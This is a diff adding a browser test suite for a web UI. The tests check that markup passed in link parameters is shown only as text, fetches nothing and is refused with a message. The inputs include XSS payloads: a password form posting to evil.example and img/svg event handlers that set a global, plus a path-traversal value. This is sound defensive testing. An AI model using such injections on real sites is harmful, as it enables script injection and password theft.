@@ -1,0 +1,71 @@
+"""What a stranger's link may do: nothing of it becomes part of the page, and nothing is fetched."""
+
+from __future__ import annotations
+
+from urllib.parse import quote
+
+import pytest
+from playwright.sync_api import BrowserContext, expect
+
+from lora_core.ui.settings import Settings
+from tests.browser.conftest import Log
+
+MARKUP = (
+    '<form id=evil action="http://evil.example/"><input name=password><button>Go</button></form>'
+    "<img class=evil src='http://evil.example/x.png' onerror='window.evil=1'>"
+    '"><svg class=evil onload="window.evil=1"></svg>'
+)
+PARAMETERS = [
+    *Settings.names(),
+    "lock",
+    "view",
+    "text",
+    "compare",
+    "deep_link",
+    "__theme",
+    "__lang",
+]
+
+
+@pytest.mark.parametrize("name", PARAMETERS)
+def test_markup_in_a_link_stays_text(
+    context: BrowserContext, server: str, log: Log, name: str
+) -> None:
+    page = context.new_page()
+    log.watch(page)
+    page.goto(f"{server}/?{name}={quote(MARKUP)}")
+    page.wait_for_selector("#numbers .headline b")
+    page.wait_for_function("localStorage.getItem('lora-lab-visitor') !== null")
+    if name in Settings.names():
+        expect(page.locator(".toast-body").first).to_be_visible()
+        assert "form" in page.locator(".toast-body").first.inner_text() or name != "method"
+    page.wait_for_load_state("networkidle")
+    assert page.locator("#evil, .evil, .toast-body form, .toast-body img").count() == 0
+    assert page.evaluate("window.evil") is None
+    assert all(url.startswith((server, "data:", "blob:")) for url in log.requests)
+
+
+@pytest.mark.parametrize(
+    ("query", "said"),
+    [
+        ("base=gpt9", "gpt9"),
+        ("base=..%2F..%2Fetc", "etc"),
+        ("targets=nowhere", "nowhere"),
+        ("targets=query,%2A", "*"),
+        ("scaling=sideways", "scaling"),
+        ("head=off", "head"),
+        ("method=magic", "method"),
+        ("rank=many", "rank"),
+        ("steps=1e9", "1e+09"),
+        ("seed=-5", "seed"),
+        ("alpha=nan", "alpha"),
+    ],
+)
+def test_what_a_link_asks_for_and_is_not_here_is_refused_in_words(
+    context: BrowserContext, server: str, query: str, said: str
+) -> None:
+    page = context.new_page()
+    page.goto(f"{server}/?{query}")
+    toast = page.locator(".toast-body").first
+    expect(toast).to_contain_text(said)
+    expect(toast).to_contain_text("defaults are used")
